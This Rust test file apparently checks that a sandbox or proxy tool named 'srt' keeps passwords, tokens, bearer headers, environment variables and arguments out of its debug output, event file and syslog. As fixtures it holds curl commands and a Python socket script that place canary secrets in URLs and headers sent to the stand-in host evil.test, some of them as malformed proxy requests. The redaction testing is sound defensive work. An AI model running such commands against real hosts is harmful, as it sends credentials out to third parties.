//! What is in no log, however much is said: secrets of URLs, headers, variables and arguments.

use std::fs;
use std::os::unix::net::UnixDatagram;

use serde_json::json;

use super::harness::{Scratch, canary, run};
use super::srt;

/// Requests that cannot be judged, of which events show what was asked.
const UNREADABLE: &str = r"
import socket, sys
password, token = sys.argv[1:]
for line in ['GET http://u:%s@evil.test:99999/p?token=%s', 'CONNECT u:%s@evil.test:443?token=%s',
             'GET http://u:%s@evil_.test,x/?t=%s', 'GET ftp://u:%s@evil.test/?t=%s',
             'GET http://[u:%s@evil.test/?t=%s', 'GET /x:%s?t=%s', 'GET u:%s@evil.test/?t=%s']:
    s = socket.create_connection(('127.0.0.1', 3128))
    line = line % (password, token) + ' HTTP/1.1\r\nProxy-Authorization: Basic ' + token
    s.sendall(line.encode() + b'\r\n\r\n')
    s.recv(4096)
";

#[test]
fn neither_a_debug_log_nor_any_sink_tells_a_secret() {
    let scratch = Scratch::new("canaries");
    let file = scratch.path("events");
    let socket = scratch.path("log");
    let daemon = UnixDatagram::bind(&socket).expect("ours");
    daemon.set_nonblocking(true).expect("it is a socket");
    let [password, token, bearer, variable, argument] = [(); 5].map(|()| canary());
    let script = "curl -s \"http://u:$1@evil.test:8765/p?token=$2\" -H \"Authorization: Bearer $3\"; \
                  curl \"http://u:$1@evil.test:8765/p?token=$2\" -s; \
                  curl -s -x http://127.0.0.1:3128 -p \"https://u:$1@evil.test/?token=$2\"; \
                  curl -uu:$1 -s http://evil.test/; curl -HAuthorization:$3 -s http://evil.test/; \
                  python3 -c \"$5\" \"$1\" \"$2\"; echo ran";
    let words = [
        "sh", "-c", script, "sh", &password, &token, &bearer, &argument, UNREADABLE,
    ];
    let listed = json!([
        { "type": "file", "path": file }, { "type": "syslog", "path": socket },
    ]);
    let srt = srt(&scratch, &listed)
        .flags(&["--debug"])
        .env("MY_SECRET", &variable)
        .env("http_proxy_password", &variable);
    let ran = run(&mut srt.into_command(&words)).succeeds();
    assert!(ran.stdout.ends_with("ran\n"), "{}", ran.stdout);
    let events = fs::read_to_string(&file).expect("srt made it");
    assert!(events.matches("evil.test:").count() >= 4, "{events}");
    assert!(
        events.matches("net.request.malformed").count() >= 3,
        "{events}"
    );
    let mut buffer = vec![0; 1 << 16];
    let mut sent = String::new();
    while let Ok(len) = daemon.recv(&mut buffer) {
        sent += &String::from_utf8_lossy(&buffer[..len]);
    }
    assert!(sent.contains("evil.test:"), "{sent}");
    for secret in [password, token, bearer, variable, argument] {
        for (name, log) in [
            ("stderr", &ran.stderr),
            ("events", &events),
            ("syslog", &sent),
        ] {
            let line = log.lines().find(|line| line.contains(&secret));
            assert_eq!(line, None, "in {name}");
        }
    }
}
